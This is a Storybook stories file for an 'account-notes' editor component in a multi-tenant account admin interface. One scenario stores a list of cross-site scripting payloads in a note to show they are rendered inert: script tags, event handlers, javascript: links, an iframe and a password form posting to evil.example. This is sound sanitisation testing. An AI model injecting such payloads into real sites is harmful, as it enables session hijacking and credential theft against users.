import type { Meta } from '@storybook/web-components-vite';
import type { CrossbarEmulator } from '../src/mock/index.js';
import { directApi, draftStories, until } from './support/draft-stories.js';
import { AccountProvider } from '../components/account-provider/account-provider.define.js';
import { AccountNotes } from '../components/account-notes/account-notes.define.js';

// A side-effect-only import is dropped by the static build ("sideEffects" in package.json): register here.
AccountProvider.define('account-provider');
AccountNotes.define('account-notes');

const customer = (emulator: CrossbarEmulator) =>
  emulator.accounts().find((a) => a.depth === 1 && a.enabled && !a.isReseller)!.id;

let edits = 0;

const s = draftStories({
  tag: 'account-notes',
  account: customer,
  async edit(el) {
    // Types into "Customer notes" as a user would; each edit says something else, so two editors clash.
    const box = await until(() => el.shadowRoot!.querySelector<HTMLElement>('#note-customNotes'));
    await until(() => box.isContentEditable);
    box.focus();
    document.execCommand('insertText', false, `Call before noon (${++edits}). `);
  },
  read: (id) => `/accounts/${id}`,
  write: { method: 'PATCH', path: '/accounts/*' },
});

export default { ...s.meta } satisfies Meta;

export const Loaded = s.states.Loaded;
export const LoadedDark = s.states.LoadedDark;
export const LoadedFrench = s.states.LoadedFrench;
export const LoadedRightToLeft = s.states.LoadedRightToLeft;
export const Loading = s.states.Loading;
export const LoadError = s.states.LoadError;
export const Offline = s.states.Offline;
export const Forbidden = s.states.Forbidden;
export const Dirty = s.states.Dirty;
export const Saving = s.states.Saving;
export const Saved = s.states.Saved;
export const ReadOnly = s.states.ReadOnly;
export const Conflict = s.states.Conflict;
export const DisabledAccount = s.states.DisabledAccount;

/** Every trick another tenant could try, shown as text: nothing runs, nothing leaves the editor's box. */
const HOSTILE = [
  '<p>Script: <script>alert("notes-xss")</script>nothing ran.</p>',
  '<p>Image: <img src="x" onerror="alert(\'onerror\')">no image, no alert.</p>',
  '<p onclick="alert(\'click\')">Click me: no handler.</p>',
  '<p><a href="javascript:alert(1)">A javascript: link</a> and <a href="data:text/html,<script>alert(2)</script>">a data: link</a> are text.</p>',
  '<p>SVG: <svg><script>alert(3)</script></svg>gone.</p>',
  '<style>* { display: none !important; }</style>',
  '<div style="position:fixed;inset:0;background:red;z-index:99999">A box that wanted the whole page stays in the note.</div>',
  '<p>Frame: <iframe src="https://evil.example"></iframe>gone.</p>',
  '<form action="https://evil.example/steal"><p>A form asking for a password:</p><input name="password"><button>Send</button></form>',
  '<p><a href="https://help.example.com">A real link</a> opens in a new tab.</p>',
].join('');

/** Hostile notes and announcement, as another tenant could have stored them. */
export const AHostileNote = s.scenario(async (b, id) => {
  await directApi(b.emulator).updateAccount(id, { notes: { customNotes: HOSTILE, announcement: HOSTILE } });
});

/** No notes and no announcement: the placeholders, and no "Delete announcement". */
export const Empty = s.scenario(async (b, id) => {
  await directApi(b.emulator).updateAccount(id, { notes: { customNotes: null, announcement: null } });
});

const paragraph = (n: number) =>
  `<p><strong>${n}.</strong> Site visit ${n}: the PBX was moved to the new rack; <em>check the trunk count</em> before the next invoice, and call the office manager first (see <a href="mailto:office@harbor-dental.example">office@harbor-dental.example</a>).</p>`;

/** Long notes: the editors grow to a limit, then scroll. */
export const LongNotes = s.scenario(async (b, id) => {
  const long =
    Array.from({ length: 24 }, (_, i) => paragraph(i + 1)).join('') +
    `<ul>${Array.from({ length: 12 }, (_, i) => `<li>Extension ${100 + i} forwards to the front desk</li>`).join('')}</ul>`;
  await directApi(b.emulator).updateAccount(id, {
    notes: {
      customNotes: long,
      announcement: `<p><strong>Maintenance window</strong> on Saturday, 02:00 to 04:00.</p><ol><li>Calls may drop.</li><li>Voicemail stays available.</li></ol>${paragraph(1).repeat(8)}`,
    },
  });
});
